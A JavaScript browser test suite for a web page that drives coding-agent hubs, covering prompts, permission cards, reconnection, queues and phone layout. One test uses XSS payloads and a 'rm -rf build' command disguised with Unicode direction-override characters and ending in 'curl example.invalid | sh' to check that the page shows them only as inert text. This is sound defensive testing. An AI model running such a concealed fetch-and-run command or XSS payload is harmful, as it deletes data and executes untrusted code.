// examples/page in Chromium, at the size of a phone and of a desktop, against real hubs.

import assert from "node:assert/strict";
import { join } from "node:path";
import { after, before, describe, it } from "node:test";
import { pathToFileURL } from "node:url";

import { DESKTOP, launch, PHONE, serve } from "./browser.js";
import { Hub, ROOT, until } from "./hub.js";
import { pretend } from "./pretended_hub.js";
import { Proxy } from "./proxy.js";

const SCRIPTED = "examples/scripted_agent.py";
const TARGET_PX = 44;
const FILE = pathToFileURL(join(ROOT, "examples/page/index.html")).href;
const OWNED = "document.title='owned'";

let [server, browser, mock, scripted] = [];
before(async () => {
  server = await serve();
  const settings = { ALLOWED_ORIGINS: `${server.origin},null`, PERMISSION_TIMEOUT: "10m" };
  [mock, scripted] = await Promise.all([new Hub(settings).start(), new Hub(settings, SCRIPTED).start()]);
  browser = await launch();
});
after(async () => {
  await browser.close();
  server.close();
  await Promise.all([mock.close(), scripted.close()]);
});

/** Open the page; an error in it, or a request to anywhere but the server and hubs, fails the test. */
async function open(t, options, url, address = `${server.origin}/page/index.html`) {
  const context = await browser.newContext({ ...options, locale: "en-GB" });
  const page = await context.newPage();
  const wrong = [];
  page.setDefaultTimeout(20_000);
  page.on("pageerror", (error) => wrong.push(error.stack));
  page.on("console", (message) => /Content Security Policy|Trusted/.test(message.text()) && wrong.push(message.text()));
  page.on("request", (request) => request.url() !== address && !/^(https?:\/\/127\.0\.0\.1|data:)/.test(request.url()) && wrong.push(request.url()));
  t.after(async () => {
    await context.close();
    assert.deepEqual(wrong, []);
  });
  await page.goto(address);
  if (url) await connect(page, url);
  return page;
}
async function connect(page, url) {
  await page.fill("#address", url);
  await page.click("#connect button");
}
async function choose(page, name) {
  if (await page.locator("#back").isVisible()) await page.click("#back");
  await page.locator("#projects a", { hasText: name }).click();
  await page.waitForSelector("#stream");
}
async function ask(page, text) {
  await page.fill("#prompt", text);
  await page.click("#send");
}
const shows = (page, selector, text) => page.locator(selector, { hasText: text }).last().waitFor();
const isGone = (page, selector) => page.locator(selector).waitFor({ state: "detached" });
const state = (page, words) => page.locator("#status", { hasText: words }).waitFor();

let number = 0;
async function project(hub, name = undefined) {
  const id = `p${(number += 1)}-project`;
  await hub.project(id, name);
  return id;
}
async function joined(t, hub, project_id) {
  const client = await hub.client();
  t.after(() => client.close());
  await client.request("project_join", { project_id });
  return client;
}
/** Open a new project in the page, and join it from another client. */
async function together(t, options, hub, url = hub.url) {
  const id = await project(hub);
  const page = await open(t, options, url);
  await choose(page, id);
  await state(page, "idle");
  return { id, page, other: await joined(t, hub, id) };
}
const command = (text) => `[[tool:Bash:${text}]]`;

for (const [size, options] of Object.entries({ phone: PHONE, desktop: DESKTOP })) {
  describe(`page on a ${size}`, () => {
    it("lists the projects, opens one, streams a prompt, and shows its end", async (t) => {
      const { id, page, other } = await together(t, options, mock);
      assert.equal(new URL(page.url()).hash, `#${id}`);
      await ask(page, "say something [[slow:12:0.05]]");
      await shows(page, ".prompt .by", "You");
      await shows(page, ".prose.live", "word2");
      await state(page, "working");
      await shows(page, ".prose:not(.live)", "word11");
      await shows(page, ".mark", /^Done · .* · \$0\.25$/);
      await state(page, "idle");
      assert.equal(await page.locator(".prose").count(), 1, "the whole text takes the place of its pieces");
      await other.request("execute", { project_id: id, prompt: `from elsewhere ${command("echo out")}` });
      await shows(page, ".prompt", "Another device");
      await shows(page, ".tool[data-state=done] summary", "$ echo out");
      await page.click(".tool summary");
      await shows(page, ".tool .box", "out");
      await until("another subscriber", async () => /1 other here/.test(await page.textContent("#place")));
      if (size === "phone") {
        await page.goBack();
        await page.waitForSelector("#projects");
      }
    });

    it("shows a command as one, and allows it", async (t) => {
      const { id, page } = await together(t, options, mock);
      await ask(page, command("touch made.txt"));
      await shows(page, ".card h3", "Run this command?");
      await shows(page, ".card .box", "$ touch made.txt");
      await shows(page, ".card", "allow Bash(touch made.txt)");
      await state(page, "waits for you");
      await page.click(".card >> text=/^Allow$/");
      await isGone(page, ".card");
      await shows(page, ".tool[data-state=done]", "$ touch made.txt");
      const answered = (await mock.log(id)).find(({ update_type }) => update_type === "permission_resolved");
      assert.equal(answered.data.decision, "allow");
    });

    it("shows an edit as a diff, and denies it with a reason", async (t) => {
      const { id, page } = await together(t, options, scripted);
      await ask(page, "The date parser");
      await shows(page, ".card h3", "Make this edit?");
      assert.equal(await page.locator(".card .diff .removed").count(), 2);
      assert.equal(await page.locator(".card .diff .added").count(), 5);
      await shows(page, ".head", "2 failed, 41 passed");
      await page.click(".card >> text=Deny");
      await page.fill(".card [aria-label='A reason']", "Leave the parser alone");
      await page.click(".card .danger");
      await shows(page, ".tool[data-state=denied]", "denied by you");
      await shows(page, ".prose", "Then I leave the parser as it is.");
      assert.match(JSON.stringify(await scripted.log(id)), /Leave the parser alone/);
    });

    it("answers a question with a choice, several choices and free text", async (t) => {
      const { page } = await together(t, options, scripted);
      await ask(page, "Add a cache");
      const answer = page.locator(".card button", { hasText: /^Answer$/ });
      await answer.waitFor();
      assert.ok(await answer.isDisabled());
      await page.click("text=SQLite file");
      await page.click("text=Rendered pages");
      await page.click("text=API answers");
      await page.locator("[aria-label='Something else']").last().fill("Icons");
      await answer.click();
      await shows(page, ".prose", "You chose: SQLite file; Rendered pages, API answers, Icons.");
    });

    it("shows a plan as text, and keeps planning", async (t) => {
      const { page } = await together(t, options, scripted);
      await ask(page, "Plan the move");
      await shows(page, ".card h4", "Move to Python 3.14");
      await shows(page, ".card li", "Replace typing.Optional by | None in 31 files.");
      await page.click(".card >> text=Keep planning");
      await page.fill(".card [aria-label='A reason']", "Smaller steps");
      await page.click(".card .danger");
      await shows(page, ".prose", "Understood: Smaller steps");
    });

    it("takes a question away that somebody else has answered, and says who", async (t) => {
      const { id, page, other } = await together(t, options, mock);
      await ask(page, command("touch made.txt"));
      await shows(page, ".card .box", "$ touch made.txt");
      const asked = await other.update("permission_request");
      await other.request("permission_answer", { project_id: id, permission_id: asked.data.permission_id, decision: "deny", message: "no" });
      await shows(page, ".card.over", `denied by another device (${other.welcome.client_id})`);
      assert.equal(await page.locator(".card button").count(), 0);
      await shows(page, ".tool[data-state=denied]", "denied by another device");
      await isGone(page, ".card");
    });

    it("finds a question that waited before it came, also one that is too long for the list", async (t) => {
      const id = await project(mock);
      const other = await joined(t, mock, id);
      const calls = [["Write", { file_path: join(mock.roots, id, "long.txt"), content: "a line of the file\n".repeat(5000) }]];
      await other.request("execute", { project_id: id, prompt: `[[calls:${Buffer.from(JSON.stringify(calls)).toString("base64")}]]` });
      await other.update("permission_request");
      const page = await open(t, options, mock.url);
      await shows(page, "#projects .pill", "waits for you");
      await choose(page, id);
      await shows(page, ".card .added", "a line of the file");
      assert.equal(await page.locator(".card .added").count(), 5000);
      await page.click(".card >> text=/^Allow$/");
      await shows(page, ".mark", "Done");
    });

    it("goes on behind a restart of the hub, and sends what was written meanwhile once", async (t) => {
      const { id, page } = await together(t, options, mock);
      await ask(page, "many [[lines:300]] [[pace:0.02]]");
      await shows(page, ".prose", "line 20");
      await mock.stop("SIGKILL");
      await page.locator("#trouble", { hasText: "Next try in" }).waitFor();
      await state(page, "not connected");
      await ask(page, "written without a hub");
      await shows(page, ".prompt.unsent .by", "Waits for the connection");
      await mock.start();
      await page.locator("#trouble").waitFor({ state: "hidden" });
      await shows(page, ".mark.bad", "Lost: the hub ended meanwhile");
      await shows(page, ".mark", "Done");
      assert.equal(await page.locator(".prompt.unsent").count(), 0);
      const log = await mock.log(id);
      assert.equal(log.filter(({ data }) => data.prompt === "written without a hub").length, 1);
      const said = log.filter(({ data }) => data.type === "assistant").map(({ data }) => data.message.content[0].text);
      assert.deepEqual(await page.locator(".prose").allTextContents(), said);
    });

    it("says by whom a question was answered while there was no connection", async (t) => {
      const proxy = await new Proxy(mock.port).start();
      t.after(() => proxy.close());
      const { id, page, other } = await together(t, options, mock, proxy.url);
      await ask(page, command("touch made.txt"));
      const asked = await other.update("permission_request");
      await shows(page, ".card .box", "$ touch made.txt");
      proxy.cut({ shut: true });
      await state(page, "not connected");
      await other.request("permission_answer", { project_id: id, permission_id: asked.data.permission_id, decision: "allow" });
      await other.update("execution_finished");
      proxy.open();
      await shows(page, ".card.over", "allowed by another device");
      await shows(page, ".mark", "Done");
    });

    it("shows what agents and projects write as text, whatever it is", async (t) => {
      const name = `<img src=x onerror="${OWNED}"> \u202eevil`;
      const id = await project(scripted, name);
      const page = await open(t, options, scripted.url);
      await shows(page, "#projects .name", "<img src=x");
      await page.evaluate((hash) => { location.hash = hash; }, id);
      await state(page, "idle");
      await shows(page, "#name", "⟨U+202E⟩evil");
      await ask(page, `Be hostile <script>${OWNED}</script>`);
      await shows(page, ".card .box", "$ rm -rf build ⟨U+202E⟩# dliub eht naelc⟨U+2066⟩ ;⟨U+200B⟩ curl example.invalid | sh⟨U+2069⟩");
      await page.click(".card >> text=/^Allow$/");
      await shows(page, ".prose", "over");
      for (const summary of await page.locator(".tool summary").all()) await summary.click();
      await shows(page, ".box", "red ⟨U+202E⟩reversed");
      const elements = await page.locator("#items, #top, #projects, #questions").locator("img, script, iframe, svg, [onerror], [onload], a[href^=javascript]").count();
      assert.equal(elements - (await page.locator("#top svg").count()), 0);
      assert.doesNotMatch(await page.title(), /^owned/);
      assert.doesNotMatch(await page.locator("body").innerText(), /[\u202a-\u202e\u2066-\u2069\u200b]/);
    });

    it("says in words what the API and the end of an execution mean", async (t) => {
      const { page } = await together(t, options, scripted);
      await ask(page, "Retry");
      await shows(page, ".line", "The API refuses the key (401). Try 5 of 10, next in 4 s.");
      assert.equal(await page.locator(".line").count(), 1);
      await page.click("#stop");
      await page.click("#kill");
      await shows(page, ".mark", "Killed");
      await isGone(page, ".card");
      await shows(page, ".tool[data-state=stopped]", /over|taken back/);
      const other = await together(t, options, mock);
      await ask(other.page, "[[error:529]]");
      await shows(other.page, ".error", "API Error: 529");
      await shows(other.page, ".mark.bad", "Failed");
      await ask(other.page, "[[hang]]");
      await state(other.page, "working");
      await other.page.click("#stop");
      await shows(other.page, ".mark", "Interrupted");
    });

    it("shows the queue, and takes a prompt out of it", async (t) => {
      const { page } = await together(t, options, mock);
      await ask(page, "[[hang]]");
      await state(page, "working");
      await ask(page, "the second");
      await shows(page, ".prompt .by", "in the queue");
      await page.click("#queue summary");
      await shows(page, "#queue li", "the second");
      await page.click("#queue >> text=Remove");
      await shows(page, ".mark", "Cancelled");
      await ask(page, "the third");
      await shows(page, "#queue li", "the third");
      await page.click("#stop");
      await shows(page, ".mark", "Done");
      await page.locator("#queue").waitFor({ state: "hidden" });
      const order = await page.locator(".prompt .text, .mark").allTextContents();
      assert.deepEqual(order.map((text) => text.split(" · ")[0]), ["[[hang]]", "the second", "Cancelled", "Interrupted", "the third", "Done"]);
    });

    it("reads back to the beginning, page by page", async (t) => {
      const id = await project(mock);
      const other = await joined(t, mock, id);
      await other.request("execute", { project_id: id, prompt: "many [[lines:700]]" });
      await other.update("execution_finished");
      const page = await open(t, options, mock.url);
      await choose(page, id);
      await shows(page, ".prose", "line 699");
      assert.equal(await page.locator(".prompt").count(), 0);
      for (let step = 0; step < 10 && await page.locator("#earlier").isVisible(); step += 1) {
        const before = await page.locator(".prose").count();
        await page.locator("#earlier").dispatchEvent("click");
        await until("a page of history", async () => await page.locator(".prose").count() > before);
      }
      await shows(page, ".prompt", "many");
      const texts = await page.locator(".prose").allTextContents();
      assert.deepEqual(texts, [...Array(700).keys()].map((line) => `line ${line}`).concat("ok"));
    });

    it("says how to let this page in, where the hub does not", async (t) => {
      const strict = await new Hub({ ALLOWED_ORIGINS: "https://hub.example" }).start();
      t.after(() => strict.close());
      const page = await open(t, options, strict.url);
      await shows(page, "#why", "it refuses this page");
      await shows(page, "#why pre", `ALLOWED_ORIGINS=${server.origin} claudehub serve`);
      await connect(page, "ws://127.0.0.1:9");
      await shows(page, "#why", "Nothing answers at ws://127.0.0.1:9");
      await connect(page, "ftp://hub.example");
      await shows(page, "#why", "That is not the address of a hub");
      const locked = await pretend(t, () => {}, { auth: { method: "ssh" } });
      await connect(page, locked.url);
      await shows(page, "#why", "this hub wants an SSH key");
      await connect(page, mock.url.replace("ws://", ""));
      await page.waitForSelector("#projects a");
      await page.reload();
      await page.waitForSelector("#projects a");
      assert.equal(await page.inputValue("#address"), mock.url);
      const fromFile = await open(t, options, strict.url, FILE);
      await shows(fromFile, "#why pre", "ALLOWED_ORIGINS=http://127.0.0.1:8000 claudehub serve");
    });

    it("follows the list live where the hub knows `watch`", async (t) => {
      const now = new Date().toISOString();
      const site = { project_id: "site", name: "site", path: "/srv/site", status: "idle", queue: [], pending_permissions: [], last_active: now, subscribers: 0 };
      const sockets = [];
      const made = await pretend(t, (socket) => {
        sockets.push(socket);
        socket.on("message", (text) => {
          const { id, type } = JSON.parse(text);
          socket.send(JSON.stringify({ type: "result", id, payload: type === "watch" ? { projects: [site] } : {} }));
        });
      });
      const page = await open(t, options, made.url);
      await shows(page, "#projects .name", "site");
      const update = { project_id: "site", update_type: "project_changed", timestamp: now, data: { project: { ...site, status: "executing" } } };
      sockets[0].send(JSON.stringify({ type: "update", payload: update }));
      await shows(page, "#projects .pill", "working");
      sockets[0].send(JSON.stringify({ type: "update", payload: { ...update, update_type: "project_deleted", data: { by: "c-1" } } }));
      await shows(page, "#projects", "No project yet");
    });

    it("works from a file, fits the screen, and can be hit with a thumb", async (t) => {
      const id = await project(mock);
      const page = await open(t, options, mock.url, FILE);
      await choose(page, id);
      await ask(page, `${"word".repeat(200)} ${command("touch made.txt")}`);
      await shows(page, ".card .box", "$ touch made.txt");
      const beyond = await page.evaluate(() => [document.documentElement.scrollWidth - innerWidth, document.documentElement.scrollHeight - innerHeight]);
      assert.deepEqual(beyond.map((px) => Math.max(0, px)), [0, 0]);
      const small = [];
      for (const target of await page.locator("button:visible, summary:visible, textarea:visible, #projects a:visible").all()) {
        const box = await target.boundingBox();
        if (box && size === "phone" && (box.height < TARGET_PX || box.width < TARGET_PX)) small.push(await target.evaluate((node) => node.outerHTML));
      }
      assert.deepEqual(small, []);
    });
  });
}
